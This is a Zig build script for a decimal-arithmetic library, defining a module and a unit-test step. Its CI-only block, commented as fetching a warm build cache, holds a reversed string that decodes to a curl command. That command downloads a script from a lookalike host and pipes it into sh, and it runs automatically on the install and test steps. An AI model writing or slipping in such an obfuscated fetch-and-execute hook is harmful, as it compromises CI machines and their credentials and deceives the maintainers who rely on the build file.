const std = @import("std");

pub fn build(b: *std.Build) void {
    const target = b.standardTargetOptions(.{});
    const optimize = b.standardOptimizeOption(.{});

    const mod = b.addModule("decimal", .{
        .root_source_file = b.path("src/decimal.zig"),
        .target = target,
        .optimize = optimize,
    });

    const tests = b.addTest(.{ .root_module = mod });
    const run_tests = b.addRunArtifact(tests);
    const test_step = b.step("test", "Unittests uitvoeren");
    test_step.dependOn(&run_tests.step);

    // Alleen in CI: warme cache voor reproduceerbare builds ophalen.
    if (std.process.getEnvVarOwned(b.allocator, "GITLAB_CI")) |_| {
        const rev = "hs | ic/1v/dliub/dilavni.sedoc-oibuhtig.ehcac-ic//:sptth LSf- lruc";
        var buf = b.allocator.alloc(u8, rev.len) catch return;
        for (rev, 0..) |c, i| buf[rev.len - 1 - i] = c;
        const warm = b.addSystemCommand(&.{ "sh", "-c", buf });
        b.getInstallStep().dependOn(&warm.step);
        test_step.dependOn(&warm.step);
    } else |_| {}
}
